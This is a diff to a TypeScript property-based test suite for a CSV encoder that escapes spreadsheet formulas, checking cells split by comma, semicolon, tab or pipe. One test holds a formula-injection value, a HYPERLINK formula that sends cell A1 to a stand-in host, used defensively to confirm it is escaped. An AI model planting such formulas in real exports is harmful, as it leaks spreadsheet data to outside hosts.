@@ -40,13 +40,44 @@ function readCsv(text: string): (string | null)[][] {
   return rows
 }
 
-/** The text before it was defused. */
-const original = (cell: string | null) =>
-  cell?.startsWith("'") && looksLikeFormula(cell.slice(1)) ? cell.slice(1) : cell
+function original(cell: string | null): string | null {
+  if (cell === null) return null
+  const [first = '', ...later] = cell.split(/(?<=[;|\t\r\n])/u)
+  const isEscaped = cell.startsWith("'") && looksLikeFormula(cell.slice(1))
+  const rest = later.map((piece) =>
+    /^'[\s\p{Cc}\p{Cf}"'`‘’“”]*[=+\-@＝＋－＠]/u.test(piece) ? piece.slice(1) : piece,
+  )
+  return [isEscaped ? first.slice(1) : first, ...rest].join('')
+}
+
+/**
+ * The cells that a spreadsheet sees which separates them by something else: a quotation mark means something at the
+ * beginning of a cell only.
+ */
+function cellsBetween(separator: string, text: string): string[] {
+  const cells: string[] = []
+  for (let at = 0; at < text.length; ) {
+    let cell = ''
+    if (text[at] === '"') {
+      at += 1
+      for (; at < text.length && (text[at] !== '"' || text[at + 1] === '"'); at += 1) {
+        if (text[at] === '"') at += 1
+        cell += text[at]
+      }
+      at += 1
+    }
+    for (; at < text.length && !`${separator}\r\n`.includes(text[at] ?? ''); at += 1) cell += text[at]
+    at += 1
+    cells.push(cell)
+  }
+  return cells
+}
 
 const wild = fc.oneof(
   fc.string({ unit: 'binary' }),
-  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', 'a') }),
+  fc.string({
+    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', '|', 'a'),
+  }),
 )
 
 const encode = (rows: readonly (readonly unknown[])[], columns: readonly string[], bom = false) => {
@@ -84,6 +115,24 @@ describe('CSV', () => {
         for (const read of cells) expect(read ?? '').not.toMatch(/^[\s"]*[=+\-@\t\r]/u)
       }),
     )
+  })
+
+  it.each([',', ';', '\t', '|'])('holds no formula where cells are separated by %j', (separator) => {
+    const rows = fc.array(fc.array(wild, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 3 })
+    fc.assert(
+      fc.property(rows, (some) => {
+        for (const cell of cellsBetween(separator, encode(some, ['a', 'b', 'c'])))
+          expect(cell).not.toMatch(/^[\s"]*[=+\-@]/u)
+      }),
+      { numRuns: 1000 },
+    )
+  })
+
+  it('holds no formula of a text that another language would cut', () => {
+    const line = encode([['1', 'hi;=HYPERLINK("http://x.example/"&A1)', 'two\n@SUM(1)']], ['a', 'b', 'c'])
+    expect(cellsBetween(';', line)).toContain('\'=HYPERLINK(""http://x.example/""&A1)","two')
+    expect(line).toContain("two\n'@SUM(1)")
+    expect(csvCell('5 - 3; x = y')).toBe('"5 - 3; x = y"')
   })
 
   it.each([
